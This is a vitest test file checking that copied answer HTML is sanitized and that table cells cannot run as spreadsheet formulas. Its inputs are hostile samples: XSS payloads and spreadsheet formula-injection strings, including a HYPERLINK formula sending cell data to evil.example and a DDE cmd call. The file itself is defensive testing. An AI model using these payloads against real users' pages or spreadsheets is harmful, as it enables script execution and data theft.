import { expect, it, vi } from "vitest";
import { htmlOf, tableOf } from "./testing/copied-answers.tsx";

vi.mock("katex/dist/katex.min.css?url", () => ({ default: "/katex.css" }));

it("the HTML of a copied answer has nothing that runs, loads or belongs to the page alone", async () => {
  for (const markdown of [
    "<script>alert(1)</script> <img src=x onerror=alert(1)> <b onclick=x>b</b>",
    "[a](javascript:alert(1)) [b](data:text/html,x) [c](/logout)",
    '[a](https://a.example/"onclick="alert(1))',
    '```html\n<script>alert("1")</script>\n```',
    '|a|\n|-|\n|<img src=x onerror=alert(1)>|\n|["](https://a.example/)|',
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x>}$",
    "a[^1]\n\n[^1]: b\n\n<details>\n\nc\n</details>\n\n# d\n\n- [x] e",
  ]) {
    const html = await htmlOf(markdown);
    expect(html).not.toMatch(/<(?:script|img|b|svg|input|button|span|details|style|link)\b/);
    expect(html).not.toMatch(/<[^>]*\s(?:on\w+|class|id|data-[\w-]+|aria-[\w-]+|tabindex)=/);
    expect(html).not.toMatch(/href="(?!https:|mailto:)/);
  }
});

it.each([
  "=SUM(A1:A3)",
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "=cmd'/C calc'!A0",
  "@SUM(A1)",
  "+A1",
  "-x",
  "- item",
  "+IMPORTXML(A1)",
  "-2+WEBSERVICE(A1)",
  "+1 'file'!A1",
  "＝A1",
  "`=A1`",
  "**=A1**",
  "[=A1](https://a.example)",
  "-1+[b.xlsx]Sheet1!A1",
])("does not let a spreadsheet run %s", async (cell) => {
  const { text, html } = await tableOf(`|a|\n|-|\n|${cell}|`);
  expect(text).toMatch(/^a\n'[=+\-@＝]/);
  expect(html).toContain("<td>'");
});
